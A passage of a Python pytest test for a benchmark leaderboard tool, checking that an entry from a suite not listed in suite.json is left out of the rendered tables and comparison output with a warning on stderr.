    from clbench.config.load import config_hash

    out = tmp_path / "lb"
    shutil.copytree(rendered, out)
    entry = E.load_entries(out)[0].document
    entry["config"]["seed"] = 7
    entry.update(suite="other", seed=7, config_hash=config_hash(entry["config"]))
    entry["content_hash"] = E.content_hash(entry)
    foreign = E.write_entry(out, entry)
    E.read_entry(foreign)
    capsys.readouterr()
    expected = (f"{out}: left out of the tables, as suite.json does not list them: 1 entry of suite other, not "
                f"smoke (entries/{foreign.name})")
    assert main(["leaderboard", "render", str(out)]) == 0
    assert capsys.readouterr().err.strip() == expected
    assert entry["config_hash"][:12] not in (out / "index.html").read_text()
    assert main(["compare", str(out)]) == 0
    captured = capsys.readouterr()
    assert captured.err.strip() == expected and "Kendall" in captured.out
